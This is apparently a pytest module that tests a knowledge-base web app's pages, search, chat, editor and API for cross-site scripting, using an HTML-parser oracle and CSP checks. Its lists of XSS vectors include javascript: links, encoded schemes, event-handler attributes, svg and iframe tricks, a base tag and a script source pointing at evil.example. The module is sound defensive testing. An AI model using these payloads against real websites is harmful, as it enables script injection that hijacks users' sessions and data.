"""XSS: hostile corpora on every sink, each page checked by the HTML-parser oracle (issue 7).

The corpora: the Big List of Naughty Strings (all of it, vendored in
``tests/data``), Markdown vectors written here, and brs-kb's XSS payloads
(``get_all_payloads()``, data only): all of them in article bodies,
questions and tags, a deterministic sample of them where every payload
costs a request (titles, queries, comments). One app is built for the
module from files holding the payloads, as a content folder edited outside
the app would be; publishes and proposals go through the real paths.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import brs_kb
import pytest

from kb import content, create_app
from kb.answers import normalise_question
from kb.errors import ArticleInvalid
from tests.conftest import PASSWORD, add_user, api_token, csrf_token, login
from tests.html_oracle import unsafe_markup, unsafe_response, url_scheme, visible_text

DATA = Path(__file__).resolve().parent / "data"
BLNS: list[str] = json.loads((DATA / "blns.json").read_text("utf-8"))

MARKDOWN_VECTORS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&#x3A;alert(1))",
    "[x](&#0000106&#0000097vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1))',
    "[x](https://ok.example 'a' onclick='alert(1)')",
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    '[x][Evil2]\n\n[evil2]: JaVaScRiPt:alert(1) "title"',
    "[x][e3]\n\n[e3]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    '[x](kb:"><script>alert(1)</script>)',
    "[x](kb:javascript:alert(1))",
    "[x](kb:../../javascript:alert(1))",
    '# Heading {: onclick="alert(1)" }',
    'A paragraph\n{: onclick=alert(1) style="color:red" }',
    "[link](https://ok.example){: onmouseover=alert(1) }",
    "*x*{: #id .cls onfocus=alert(1) autofocus }",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<object data="javascript:alert(1)"></object>',
    "<embed src=javascript:alert(1)>",
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<details open ontoggle=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<div>\n<script>alert(1)</script>\n</div>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "- <a href=javascript:alert(1)>x</a>",
    '<video poster="javascript:alert(1)"></video>',
    '<img srcset="javascript:alert(1) 1x">',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'\"><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
]


def _brs_payloads() -> list[str]:
    """Return brs-kb's payload strings, sorted and unique (its metadata is not used)."""
    return sorted({entry["payload"] for entry in brs_kb.get_all_payloads().values()})


def _unique(*lists: list[str]) -> list[str]:
    return list(dict.fromkeys(p for items in lists for p in items))


BRS = _brs_payloads()
# deterministic samples of the sorted payloads where each one costs an article or a search
BRS_TITLES = BRS[::8]
BRS_QUERIES = BRS[::25]
BULK = _unique(MARKDOWN_VECTORS, BLNS, BRS)  # bodies, questions and tags: 100 an article
TITLES = _unique(MARKDOWN_VECTORS, BLNS, BRS_TITLES)  # one article each
QUERIES = _unique(MARKDOWN_VECTORS, BLNS, BRS_QUERIES)  # one search (or more) each
CHUNK = 100
BODY_PREFIX = "hostile-body"


def chunks(items: list[str], size: int) -> Iterator[list[str]]:
    for start in range(0, len(items), size):
        yield items[start : start + size]


def _one_line(payloads: list[str]) -> list[str]:
    """Payloads usable as a question or tag (one line, some text)."""
    return [p for p in payloads if p.strip() and "\n" not in p and "\r" not in p]


def body_article(n: int, payloads: list[str]) -> str:
    """An article carrying ``payloads`` in its body, questions and tags."""
    lines = _one_line(payloads)
    front = {
        "id": f"{BODY_PREFIX}-{n}",
        "title": f"Hostile body {n}",
        "lang": "en",
        "questions": lines[: content.MAX_QUESTIONS],
        "category": "bodies",
        "tags": lines[content.MAX_QUESTIONS : 2 * content.MAX_QUESTIONS],
        "audience": "public",
    }
    first = " ".join(payloads[0].split()) or "x"
    body = f"Short answer {n}: {first}\n\n" + "\n\n".join(payloads)
    return content.compose(front, body)


def title_article(n: int, payload: str) -> str:
    """An article whose title and short answer are ``payload``."""
    front = {
        "id": f"hostile-title-{n}",
        "title": payload[: content.MAX_TITLE],
        "lang": "en",
        "category": f"titles-{n % 6}",
        "audience": "public",
    }
    return content.compose(front, f"Answer {n}: {' '.join(payload.split())}")


def write_valid(content_dir: Path, rel: str, text: str, refused: list) -> bool:
    """Write ``text`` at ``rel`` if it parses; else note the refusal (which must be typed)."""
    try:
        content.parse_article(text, path=rel)
    except ArticleInvalid as exc:
        refused.append((rel, exc.problems))
        return False
    path = content_dir / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return True


def build_app(root: Path, bulk: list[str], titles: list[str]):
    """An app whose content carries ``bulk`` in bodies, questions and tags, and ``titles``.

    ``app.bodies`` lists the body articles, ``app.titles`` maps title articles to their
    titles as parsed, ``app.refused`` holds the validation problems of refused files.
    """
    content_dir = root / "content"
    refused: list = []
    bodies = []
    for n, payloads in enumerate(chunks(bulk, CHUNK)):
        rel = f"en/bodies/{BODY_PREFIX}-{n}.md"
        if write_valid(content_dir, rel, body_article(n, payloads), refused):
            bodies.append(f"{BODY_PREFIX}-{n}")
    parsed = {}
    for n, payload in enumerate(titles):
        if payload.strip():
            rel = f"en/titles-{n % 6}/hostile-title-{n}.md"
            if write_valid(content_dir, rel, title_article(n, payload), refused):
                parsed[f"hostile-title-{n}"] = " ".join(payload[: content.MAX_TITLE].split())
    app = create_app(
        {
            "TESTING": True,
            "CONTENT_DIR": content_dir,
            "DATA_DIR": root / "data",
            "SECRET_KEY": "test-secret",
        }
    )
    for role in ("agent", "editor", "publisher"):
        add_user(app, role, role)
    app.bodies, app.titles, app.refused = bodies, parsed, refused
    return app


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Every payload in a body, a sample as titles: for the pages that list or show articles."""
    return build_app(tmp_path_factory.mktemp("hostile"), BULK, TITLES)


@pytest.fixture(scope="module")
def asking(tmp_path_factory):
    """The queries in bodies and the Markdown vectors as titles: for a search per payload.

    With ``hostile``'s content each query matches hundreds of big articles and a
    search with snippets costs 35 to 85 ms; here about 10.
    """
    return build_app(tmp_path_factory.mktemp("asking"), QUERIES, MARKDOWN_VECTORS)


def signed_in(app, name: str):
    client = app.test_client()
    assert login(client, name, PASSWORD).status_code == 302
    return client


def assert_safe(response, where: str) -> None:
    assert response.status_code < 500, (where, response.status_code)
    findings = unsafe_response(response)
    assert not findings, f"{where}: " + "; ".join(map(str, findings[:5]))


def assert_safe_html(html: str | None, where: str) -> None:
    findings = unsafe_markup(html or "")
    assert not findings, f"{where}: " + "; ".join(map(str, findings[:5]))


# --- the oracle itself ------------------------------------------------------------------

BAD_SNIPPETS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<script src="/static/../../evil.js"></script>',
    '<script src="/static/chat.js" type="module"></script>',
    '<script src="javascript:alert(1)"></script>',
    '<script type="application/ld+json">{"a": 1}</script><script>alert(1)</script>',
    '<script type="application/ld+json">{"a": "</script>',
    '<script src="/static/chat.js">alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<p style="color:red">x</p>',
    "<style>p{}</style>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<iframe src=/x></iframe>",
    '<div srcdoc="<b>">',
    "<object data=x></object>",
    "<embed src=x>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href=" \t\njava\tscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<form action="javascript:alert(1)"></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<video poster="javascript:alert(1)"></video>',
    '<img srcset="/ok.png 1x, javascript:alert(1) 2x">',
]

GOOD_SNIPPETS = [
    '<script src="/static/chat.js" defer></script>',
    '<script type="application/ld+json">{"name": "\\u003cscript\\u003e"}</script>',
    '<a href="/en/articles/x">x</a><a href="https://ok.example">y</a><a href="mailto:a@b.example">z</a>',
    '<a href="//ok.example/path">protocol-relative</a><a href="?q=1#top">query</a>',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; and javascript:alert(1) as text</p>",
    '<a href="/search?q=javascript:alert(1)">a colon later in the URL</a>',
    '<meta charset="utf-8"><meta name="description" content="javascript:x">',
    '<input type="hidden" name="next" value="javascript:alert(1)">',
    "<textarea>&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;</textarea>",
]


@pytest.mark.parametrize("html", BAD_SNIPPETS)
def test_oracle_reports_known_bad_markup(html):
    assert unsafe_markup(html), html


@pytest.mark.parametrize("html", GOOD_SNIPPETS)
def test_oracle_accepts_the_apps_own_markup(html):
    assert unsafe_markup(html) == []


@pytest.mark.parametrize(
    ("url", "scheme"),
    [
        ("javascript:x", "javascript"),
        (" JAVA\tSCRIPT:x", "javascript"),
        ("\x00java\nscript:x", "javascript"),
        ("\u3000javascript:x", "javascript"),
        ("/en/articles/a:b", None),
        ("java script:x", None),
        ("https://ok.example", "https"),
        ("?x=javascript:y", None),
    ],
)
def test_url_scheme_as_a_browser_sees_it(url, scheme):
    assert url_scheme(url) == scheme


def test_oracle_needs_the_csp_header(hostile):
    response = hostile.test_client().get("/en/")
    assert unsafe_response(response) == []
    del response.headers["Content-Security-Policy"]
    assert [f.what for f in unsafe_response(response)] == ["no Content-Security-Policy"]
    response.headers["Content-Security-Policy"] = "script-src 'self' 'unsafe-inline'"
    assert [f.what for f in unsafe_response(response)] == ["CSP allows inline script"]


# --- the corpora reached the sinks ------------------------------------------------------


def test_corpora_are_loaded_and_almost_all_accepted(hostile):
    assert len(BLNS) == 461 and len(BRS) > 4000 and len(MARKDOWN_VECTORS) >= 60
    # a refusal is a typed validation error with a message (write_valid caught only that)
    assert all(problems and problems[0].message for _, problems in hostile.refused)
    assert len(hostile.bodies) == len(list(chunks(BULK, CHUNK)))
    assert len(hostile.titles) > 0.95 * len([p for p in TITLES if p.strip()])


# --- public FAQ -------------------------------------------------------------------------


def test_faq_pages_show_every_payload_as_text(hostile):
    client = hostile.test_client()
    assert_safe(client.get("/en/"), "/en/")
    shown = ""
    categories = ["bodies"] + [f"titles-{n}" for n in range(6)]
    for category in categories:
        response = client.get(f"/en/categories/{category}")
        assert response.status_code == 200, category
        assert_safe(response, category)
        shown += visible_text(response.get_data(as_text=True)) + " "
    missing = [t for t in hostile.titles.values() if t not in shown]
    assert not missing, missing[:5]


def test_every_article_page_is_safe(hostile):
    client = hostile.test_client()
    for article_id in hostile.bodies + list(hostile.titles):
        response = client.get(f"/en/articles/{article_id}")
        assert response.status_code == 200, article_id
        assert_safe(response, article_id)
    title_id, title = next(iter(hostile.titles.items()))
    assert title in visible_text(client.get(f"/en/articles/{title_id}").get_data(as_text=True))


@pytest.fixture(scope="module")
def searched(asking):
    """Every per-request payload asked on the FAQ search page (recorded for insights too)."""
    client = asking.test_client()
    return [(q, client.get("/en/search", query_string={"q": q})) for q in QUERIES]


def test_faq_search_echoes_queries_and_snippets_safely(asking, searched):
    with_results = 0
    for q, response in searched:
        assert response.status_code == 200, q
        assert_safe(response, f"search {q!r}")
        html = response.get_data(as_text=True)
        echoed = " ".join(q.strip()[:500].split())
        if echoed:
            assert echoed in visible_text(html), q
        with_results += 'class="snippet"' in html
    assert with_results > len(searched) / 2  # the snippets sink was reached


def test_api_html_fields_are_safe(asking):
    client = asking.test_client()
    snippets = 0
    for q in QUERIES:
        response = client.get("/api/v1/search", query_string={"q": q, "lang": "en"})
        if not q.strip() or len(q.strip()) > 500:  # blank or over KB_MAX_QUERY_LENGTH
            assert response.status_code == 400, q
            assert response.get_json()["error"]["message"]
            continue
        assert response.status_code == 200, (q, response.status_code)
        assert unsafe_response(response) == []  # the CSP header is on JSON too
        for result in response.get_json()["results"]:
            assert_safe_html(result["snippet"], f"snippet for {q!r}")
            snippets += bool(result["snippet"])
    assert snippets > len(QUERIES)
    for article_id in asking.bodies:
        body = client.get(f"/api/v1/articles/{article_id}?lang=en").get_json()
        assert_safe_html(body["html"], article_id)


def test_chat_replies_and_their_receipts_are_safe(asking):
    client = asking.test_client()
    editor = signed_in(asking, "editor")
    answered = 0
    # in batches the receipts page (200 newest of a channel) shows whole
    for batch in chunks([q for q in MARKDOWN_VECTORS + BLNS if q.strip()], 150):
        for q in batch:
            for response in (
                client.post("/api/v1/chat", json={"message": q, "lang": "en"}),
                client.post("/api/v1/answer", json={"question": q, "lang": "en"}),
            ):
                assert response.status_code in (200, 400), (q, response.status_code)
                assert unsafe_response(response) == []
                body = response.get_json()
                if response.status_code == 400:
                    assert len(q.strip()) > 500 and body["error"]["message"], q
                    continue
                if body["answer"]:
                    answered += 1
                    assert_safe_html(body["answer"]["html"], f"answer to {q!r}")
        asking.extensions["kb"].recorder.flush()
        page = editor.get("/insights/receipts", query_string={"channel": "chat"})
        assert_safe(page, "receipts")
        shown = visible_text(page.get_data(as_text=True))
        missing = [q for q in batch if len(q) <= 500 and normalise_question(q, "en") not in shown]
        assert not missing, missing[:3]
    assert answered > 100


# --- agent sidebar ----------------------------------------------------------------------


def test_agent_sidebar_and_fragment_are_safe(asking):
    client = signed_in(asking, "agent")
    # the page holds the fragment (results) and echoes the query; the fragment alone for some
    for q in QUERIES:
        for url in ("/agent", "/agent/search") if q in MARKDOWN_VECTORS else ("/agent",):
            response = client.get(url, query_string={"q": q, "lang": "en"})
            assert response.status_code == 200, (url, q)
            assert_safe(response, f"{url} {q!r}")


# --- editor -----------------------------------------------------------------------------


def test_editor_pages_are_safe(hostile):
    client = signed_in(hostile, "publisher")
    assert_safe(client.get("/editor"), "/editor")
    assert_safe(client.get("/editor/reviews"), "reviews")
    for article_id in hostile.bodies[:10] + list(hostile.titles)[:40]:
        page = client.get(f"/editor/en/{article_id}")
        assert page.status_code == 200, article_id
        assert_safe(page, f"edit {article_id}")


def _form(client, article_id: str, **changes) -> dict:
    token = csrf_token(client, f"/editor/en/{article_id}")
    text = (hostile_dir(client) / "en" / "bodies" / f"{article_id}.md").read_text("utf-8")
    values = {
        "csrf_token": token,
        "title": "Hostile edit",
        "category": "bodies",
        "audience": "public",
        "body": content.parse_article(text).body,
        "base_revision": "1",
        **changes,
    }
    return values


def hostile_dir(client) -> Path:
    return client.application.extensions["kb"].content_dir


def test_history_diff_preview_and_proposals_are_safe(asking):
    publisher = signed_in(asking, "publisher")
    editor = signed_in(asking, "editor")
    target = asking.bodies[1]
    payloads = QUERIES[CHUNK : 2 * CHUNK]
    note = " ".join(" ".join(p.split()) for p in payloads)[:500]
    # a second revision: the payloads reversed, so the diff shows them as removed and added
    data = _form(publisher, target, body="Changed: x\n\n" + "\n\n".join(reversed(payloads)))
    response = publisher.post(
        f"/editor/en/{target}", data={**data, "note": note, "action": "publish"}
    )
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    for url in (f"/editor/en/{target}/history", f"/editor/en/{target}/diff?from=1&to=2"):
        page = publisher.get(url)
        assert page.status_code == 200, url
        assert_safe(page, url)
    # a proposal from an editor, with payloads in the body and the note
    data = _form(editor, asking.bodies[2], body="Proposed: x\n\n" + "\n\n".join(payloads))
    response = editor.post(
        f"/editor/en/{asking.bodies[2]}", data={**data, "note": note, "action": "propose"}
    )
    assert response.status_code in (302, 303), response.status_code
    proposals = publisher.get("/editor/proposals")
    assert_safe(proposals, "proposals")
    first = proposals.get_data(as_text=True).split("/editor/proposals/")[1].split('"')[0]
    assert_safe(publisher.get(f"/editor/proposals/{first}"), "proposal")
    # the live preview: payloads in every field, valid or not (problems echo them)
    token = csrf_token(publisher, "/editor/new")
    for n, payloads in enumerate(chunks(MARKDOWN_VECTORS + BLNS, 25)):
        lines = _one_line(payloads) or ["x"]
        form = {
            "csrf_token": token,
            "id": lines[0] if n % 2 else f"preview-{n}",
            "lang": "en",
            "title": lines[1 % len(lines)],
            "questions": "\n".join(lines),
            "category": lines[2 % len(lines)] if n % 2 else "bodies",
            "tags": ", ".join(lines),
            "audience": "public",
            "body": "Preview: x\n\n" + "\n\n".join(payloads),
            "extra": "",
        }
        response = publisher.post("/editor/preview", data=form)
        assert response.status_code == 200, n
        assert_safe(response, f"preview {n}")


def test_refused_payloads_get_a_clear_4xx_through_the_publish_api(asking):
    token = api_token(asking, "publisher")
    client = asking.test_client()
    headers = {"Authorization": f"Bearer {token}"}
    statuses = set()
    for n, payload in enumerate(MARKDOWN_VECTORS + BLNS):
        front = {"id": f"api-{n}", "title": "Api", "lang": "en", "category": payload}
        text = content.compose(front, "An answer.")
        response = client.put(
            f"/api/v1/articles/api-{n}?lang=en",
            json={"markdown": text, "base_revision": 0, "note": payload or "n"},
            headers=headers,
        )
        statuses.add(response.status_code)
        assert response.status_code in (201, 400, 422), (payload, response.status_code)
        if response.status_code != 201:
            assert response.get_json()["error"]["message"], payload
    assert 422 in statuses


# --- insights ---------------------------------------------------------------------------


def test_insights_tables_show_recorded_payloads_safely(asking, searched):
    kb = asking.extensions["kb"]
    kb.recorder.flush()
    client = signed_in(asking, "editor")
    # customers' comments on answers: a "no" vote carrying each payload
    answered = client.get("/api/v1/answer", query_string={"q": "Hostile body 0", "lang": "en"})
    assert answered.get_json()["status"] == "answered"
    comments = BLNS + MARKDOWN_VECTORS  # the queue shows the newest 500
    refs = [
        client.get("/api/v1/answer", query_string={"q": "Hostile body 0", "lang": "en"}).get_json()[
            "ref"
        ]
        for _ in comments
    ]
    kb.recorder.flush()
    for n, (payload, ref) in enumerate(zip(comments, refs, strict=True)):
        response = client.post(
            "/api/v1/feedback",
            json={"ref": ref, "helpful": False, "comment": payload[:1000] or None},
            environ_base={"REMOTE_ADDR": f"10.0.{n // 25}.1"},  # under the rate limit
        )
        assert response.status_code == 201, (payload, response.get_json())
    shown = {}
    for url in (
        "/insights",
        "/insights/gaps",
        "/insights/queue",
        f"/insights/articles/en/{BODY_PREFIX}-0",
        "/insights/receipts?channel=faq",
    ):
        page = client.get(url)
        assert page.status_code == 200, url
        assert_safe(page, url)
        shown[url] = visible_text(page.get_data(as_text=True))
    # the sinks were reached: recorded questions and the comments show as text (gaps
    # merge questions sharing most words, and show 200 groups of up to 5 wordings)
    questions = {normalise_question(q, "en") for q in QUERIES if q.strip()}
    assert sum(q in shown["/insights/gaps"] for q in questions) > 100
    comments = [" ".join(c.split()) for c in MARKDOWN_VECTORS]
    assert sum(c in shown["/insights/queue"] for c in comments) >= 0.9 * len(comments)


# --- error pages ------------------------------------------------------------------------


def test_error_pages_echo_input_safely(asking):
    client = asking.test_client()
    agent = signed_in(asking, "agent")
    for payload in MARKDOWN_VECTORS + BLNS:
        segment = quote(payload, safe="")
        for response in (
            client.get(f"/en/articles/{segment}"),
            client.get("/api/v1/answer", query_string={"q": "refund", "lang": payload}),
            agent.get("/agent", query_string={"q": "refund", "lang": payload or "x"}),
            client.post("/en/feedback", data={"article": "asking-body-0", "revision": payload}),
        ):
            assert response.status_code < 500, (payload, response.status_code)
            assert_safe(response, f"error page for {payload!r}")
